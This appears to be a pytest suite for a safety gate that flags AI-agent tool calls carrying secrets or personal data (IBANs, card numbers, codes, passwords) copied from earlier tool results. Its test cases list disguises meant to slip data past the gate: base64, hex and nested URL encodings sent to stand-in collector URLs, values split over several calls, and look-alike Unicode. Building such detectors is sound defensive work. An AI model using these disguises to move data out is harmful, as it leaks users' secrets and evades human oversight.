"""Data leaving sees the usual disguises: values rewritten, short secrets, encodings, parts."""

from __future__ import annotations

import base64
import binascii
import string
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mcp.types import Tool, ToolAnnotations

from common.mcp.config import ServerConfig
from common.safety.classify import ToolVerdict
from common.safety.disguises import decoded, secrets_in, values_in
from common.safety.gate import Gate
from common.safety.leaving import Carried, Sources, carried, destination

INVENTORY = (
    "Supplier Acme GmbH, IBAN DE89370400440532013000, phone +1 415 555 0132, "
    "card 4111 1111 1111 1111, contact Orders@Acme.example.\n"
    "Your verification code is 483920. Backup code: 771903.\n"
    'api_key=q7Xk2pLm\n{"user": "bob", "password": "hunter22"}\n'
    "Order 123456 shipped in 2026: 42 units of SKU 556677, product code: 448812, "
    "batch 20261124. The password is required."
)
SOURCES = Sources({"inventory": [INVENTORY]})


def leaving(text: str, sources: Sources = SOURCES, to: str | None = None) -> Carried | None:
    """What a message posted by `chat` carries of the inventory's results."""
    found = carried({"text": text}, sources, "chat", to)
    assert not isinstance(found, str)
    return found


# --- values written another way ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("pay de89 3704 0044 0532 0130 00", "an IBAN, lower-cased, with spaces"),
        ("pay DE89-3704-0044-0532-0130-00", "an IBAN, with dashes"),
        ("pay de89.3704.0044.0532.0130.00", "an IBAN, lower-cased, with dots"),
        ("call 415.555.0132", "a phone number, with dots"),
        ("call (415) 555-0132", "a phone number"),
        ("card 4111.1111.1111.1111", "a card number, with dots"),
        ("write to ORDERS@ACME.EXAMPLE", "an email address, upper-cased"),
    ],
)
def test_a_value_written_another_way_is_carried_and_the_reason_names_how(
    text: str, what: str
) -> None:
    found = leaving(text)
    assert found is not None
    assert found.expert == "inventory"
    assert found.what.startswith(what)


def test_an_iban_whose_check_fails_is_no_iban() -> None:
    assert "de89370400440532013001" not in values_in("DE89 3704 0044 0532 0130 01")
    assert "de89370400440532013000" in values_in("de89-3704-0044-0532-0130-00")


# --- short secrets --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("Your code: 483920", "483920"),
        ("use 771903 to get in", "771903"),
        ("https://x.example/?k=q7Xk2pLm", "q7xk2plm"),
        ("login bob / hunter22", "hunter22"),
    ],
)
def test_a_short_secret_a_result_labels_is_carried(text: str, secret: str) -> None:
    found = leaving(text)
    assert found is not None
    assert found.excerpt == secret


@pytest.mark.parametrize(
    "text",
    [
        "Order 123456 is on its way",  # a number nothing labels
        "We sold 42 units in 2026",
        "Restock SKU 556677 please",
        "The product code is 448812",  # a code of a product, not a secret
        "batch 20261124",
        "required: a password",  # a word after a label
        "ask for code 48392",  # a part of a code, not the code
        "4839201 is another number",
    ],
)
def test_ordinary_numbers_and_words_are_not_carried(text: str) -> None:
    assert leaving(text) is None


def test_secrets_are_found_by_label_or_shape_not_ordinary_values() -> None:
    found = secrets_in(INVENTORY)
    assert {"483920", "771903", "q7xk2plm", "hunter22"} <= found.keys()
    assert not {"123456", "556677", "448812", "2026", "required", "20261124"} & found.keys()


def test_a_secret_the_user_wrote_was_asked_to_leave() -> None:
    sources = Sources({"inventory": [INVENTORY]}, asked="Send my code 483920 to Carol")
    assert leaving("483920", sources) is None


# --- encodings ------------------------------------------------------------------------------------


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64url(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def hexed(text: str) -> str:
    return binascii.hexlify(text.encode()).decode()


def url(text: str) -> str:
    return quote(text, safe="")


ENCODINGS: dict[str, Callable[[str], str]] = {
    "base64": b64,
    "base64 URL-safe, unpadded": b64url,
    "hex": hexed,
    "URL-encoded twice": lambda t: url(url(t)),
    "URL-encoded three times": lambda t: url(url(url(t))),
    "base64 of URL-encoded": lambda t: b64(url(t)),
    "URL-encoded base64": lambda t: url(b64(t)),
    "hex of base64": lambda t: hexed(b64(t)),
}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("value", ["orders@acme.example", "DE89370400440532013000", "hunter22"])
def test_an_encoded_value_is_decoded_and_the_reason_says_how(encoding: str, value: str) -> None:
    encoded = ENCODINGS[encoding](value)
    found = carried({"url": f"https://collector.example/c?d={encoded}"}, SOURCES, "web")
    assert isinstance(found, Carried)
    assert found.excerpt == value.casefold()
    if encoded != value:  # URL-encoding leaves letters and digits as they are
        assert "encoded" in found.what


def test_decodings_are_described_in_the_order_they_were_applied() -> None:
    forms = dict(decoded(b64(url(url("a@b.example")))))
    assert forms["a@b.example"] == "URL-encoded twice, then base64-encoded"
    assert dict(decoded(hexed(b64("a@b.example"))))["a@b.example"] == (
        "base64-encoded, then hex-encoded"
    )


def test_decoding_reads_a_bounded_multiple_of_the_argument() -> None:
    hostile = b64(b64(b64(b64(b64("x" * 10_000)))))
    forms = decoded(hostile)
    assert sum(len(form) for form, _ in forms) <= 5 * len(hostile)


def test_ordinary_text_with_base64_and_hex_looking_words_is_not_carried() -> None:
    text = "Deadbeef cafebabe 1234abcd: quarterly Widget report, see /docs/Overview/Summary"
    assert leaving(text) is None


_SECRET_CHARS = string.ascii_letters + string.digits + "!$*_~^"
_LABELS = ["api_key=", "password: ", "token: ", "Your verification code is ", "secret="]


@settings(max_examples=120, deadline=None)
@given(
    secret=st.text(alphabet=_SECRET_CHARS, min_size=6, max_size=40).filter(
        lambda s: any(c.isdigit() for c in s) and len(s.strip(string.punctuation)) >= 6
    ),
    label=st.sampled_from(_LABELS),
    encoding=st.sampled_from([*ENCODINGS, "as written"]),
    where=st.sampled_from(["url", "text"]),
)
def test_any_secret_of_a_result_in_any_encoding_is_held(
    secret: str, label: str, encoding: str, where: str
) -> None:
    sources = Sources({"vault": [f"Account ready.\n{label}{secret}\nKeep it safe."]})
    sent = secret if encoding == "as written" else ENCODINGS[encoding](secret)
    args = {"url": f"https://x.example/?d={sent}"} if where == "url" else {"text": f"fyi {sent}"}
    found = carried(args, sources, "web")
    assert isinstance(found, Carried), (sent, secrets_in(sources.texts["vault"][0]))
    assert found.expert == "vault"


# --- parts over several calls ---------------------------------------------------------------------

FINANCE = "chat: finance"


def test_an_iban_sent_in_two_halves_to_one_destination_is_carried() -> None:
    sources = Sources({"inventory": [INVENTORY]}, sent={FINANCE: ["part one: DE89 3704 0044"]})
    found = leaving("part two: 0532 0130 00", sources, FINANCE)
    assert found is not None
    assert found.what == "an IBAN split over calls to the same destination"
    assert leaving("part two: 0532 0130 00", sources, "chat: general") is None


def test_pieces_that_do_not_make_up_a_value_are_not_carried() -> None:
    sources = Sources({"inventory": [INVENTORY]}, sent={FINANCE: ["room 4155, floor 2"]})
    assert leaving("ticket 0132 closed", sources, FINANCE) is None
    assert leaving("tickets 555 and 0132", sources, FINANCE) is None


def test_a_code_split_over_two_calls_is_carried() -> None:
    sources = Sources({"inventory": [INVENTORY]}, sent={FINANCE: ["first: hunt"]})
    found = leaving("then: er22", sources, FINANCE)
    assert found is not None
    assert found.excerpt == "hunter22"


def test_a_destination_is_its_site_or_its_addressees() -> None:
    post = Tool(name="post_message", inputSchema={"type": "object"})
    fetch = Tool(name="fetch", inputSchema={}, annotations=ToolAnnotations(readOnlyHint=True))
    assert destination("chat", "post_message", post, {"channel": "finance", "text": "x"}) == (
        "chat: finance"
    )
    both = [
        destination("web", "fetch", fetch, {"url": f"https://c.example/?d={half}"})
        for half in ("1", "2")
    ]
    assert both == ["sites c.example", "sites c.example"]
    read = Tool(name="get_stock", inputSchema={}, annotations=ToolAnnotations(readOnlyHint=True))
    assert destination("inventory", "get_stock", read, {"sku": "WID-1"}) is None


def test_the_gate_adds_up_the_calls_of_one_round_and_names_the_disguise() -> None:
    cleared = ToolVerdict(
        server="chat", tool="post_message", irreversible=False, source="config", reason="ok"
    )
    gate = Gate([cleared], Sources({"inventory": [INVENTORY]}))
    config = ServerConfig(command="x")

    def post(text: str) -> Any:
        return gate.check("chat", "post_message", {"channel": "finance", "text": text}, {}, config)

    assert not post("IBAN, first half: DE89 3704 0044").needs_approval
    second = post("second half: 0532 0130 00")
    assert second.needs_approval
    assert second.source == "data"
    assert "from expert 'inventory' results ('de89370400440532013000'), an IBAN split" in (
        second.reason
    )
    dashed = post("DE89-3704-0044-0532-0130-00")
    assert "an IBAN, with dashes, and it" in dashed.reason


# --- look-alike characters and spread-out digits --------------------------------------------------


def full_width(text: str) -> str:
    """`text` in full-width characters (U+FF01 to U+FF5E), its spaces ideographic (U+3000)."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else "\u3000" for c in text)


FULL_WIDTH_IBAN = full_width("DE89370400440532013000")


@pytest.mark.parametrize(
    ("text", "excerpt", "what"),
    [
        (f"pay {FULL_WIDTH_IBAN}", "de89370400440532013000", "an IBAN, with look-alike or"),
        ("code 4 8 3 9 2 0", "483920", "a code, with separators inside its digits"),
        ("code 48 39 20", "483920", "a code, with separators inside its digits"),
        ("code 483 920", "483920", "a code, with separators inside its digits"),
        ("code 4.8.3.9.2.0", "483920", "a code, with separators inside its digits"),
        ("code 4\u20098\u20093\u20099\u20092\u20090", "483920", "a code, with look-alike"),
        (
            "code 483\u00a0920",
            "483920",
            "a code, with look-alike or invisible Unicode characters, with",
        ),
        ("code 4\u20138\u20143\u22129-2-0", "483920", "a code, with look-alike or"),
        ("code 4\u200b8\u200b3\u200c9\u20602\u00ad0", "483920", "a code, with look-alike"),
        ("pay D\u041589370400440532013000", "de89370400440532013000", "an IBAN, with look"),
        (
            "write to or\u200bders@acme.example",
            "orders@acme.example",
            "an email address, lower-cased, with look",
        ),
        (
            f"code {full_width('483920')}",
            "483920",
            "a code, with look-alike or invisible Unicode characters",
        ),
        ("code ٤٨٣٩٢٠", "483920", "a code, with look-alike or invisible Unicode characters"),
        (
            f"code {full_width('4 8 3 9 2 0')}",
            "483920",
            "a code, with look-alike or invisible Unicode characters, with",
        ),
        ("card 4 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1", "4111111111111111", "a card number, with sep"),
        ("call 4 1 5 5 5 5 0 1 3 2", "4155550132", "a phone number, with separators"),
        ("pay DE 89 3704 0044 0532 0130 00", "de89370400440532013000", "an IBAN"),
        (
            full_width("orders@acme.example"),
            "orders@acme.example",
            "an email address, lower-cased, with",
        ),
    ],
)
def test_look_alike_characters_and_spread_digits_are_read_as_the_value(
    text: str, excerpt: str, what: str
) -> None:
    found = leaving(text)
    assert found is not None
    assert found.expert == "inventory"
    assert found.excerpt == excerpt
    assert found.what.startswith(what)
    assert found.what.count("with separators") <= 1


def test_spread_digits_are_read_in_a_url_too() -> None:
    found = carried({"url": "https://x.example/?c=4%208%203%209%202%200"}, SOURCES, "web")
    assert isinstance(found, Carried)
    assert found.what == "a code, with separators inside its digits, URL-encoded"


def test_a_secret_a_result_spreads_out_is_found_as_its_digits() -> None:
    sources = Sources({"mail": ["Your verification code is 7 1 2 9 0 4."]})
    assert "712904" in secrets_in(sources.texts["mail"][0])
    found = carried({"text": "712904"}, sources, "chat")
    assert isinstance(found, Carried)


@pytest.mark.parametrize(
    "text",
    [
        "Ship 48 units on 2026-11-24 at 10.30, 39 pallets, 20 crates",
        "We sold 4 8 boxes and 3 crates in 2026",
        "stock 120 0 14 310 42",
        "Order 123 456 is on its way",  # the order number: nothing labels it
        "batch 2026 11 24",
        "version 3.14.2, build 19 03 77 of 2026",  # digits of a code, in another order
        f"room {full_width('48')}, floor {full_width('3')}",
        "48, 39, 20 and 4/8/3",
        "half an IBAN: 0532 0130 00",
        "Meeting on 12.05.2026 at 10:00, 1 2 3 4 5 people",
    ],
)
def test_ordinary_numbers_spread_or_in_look_alike_characters_still_flow(text: str) -> None:
    assert leaving(text) is None


def test_quantities_side_by_side_are_no_long_number_in_the_results_either() -> None:
    sources = Sources({"inventory": ["stock 120 0 14 310 42, updated 2026-11-24 10:00"]})
    assert leaving("restock: 120 0 14 310 42", sources) is None
    assert leaving("as of 2026-11-24 10:00", sources) is None


def test_long_spread_digits_and_look_alike_characters_are_still_read() -> None:
    # Their time, n against 8n, is measured by bench/bench_hostile.py, not here: no test may
    # depend on machine speed.
    sources = Sources({"mail": ["1 " * 100_000, full_width("1" * 50_000), "code: 1 2 3 4 5 6"]})
    assert carried({"text": "1 " * 100_000}, sources, "web") is not None
    assert carried({"text": full_width("2 ") * 50_000}, sources, "web") is None
    assert carried({"text": "1\u2009" * 100_000}, sources, "web") is not None
    assert carried({"text": "1 2 " * 50_000}, sources, "web") is None
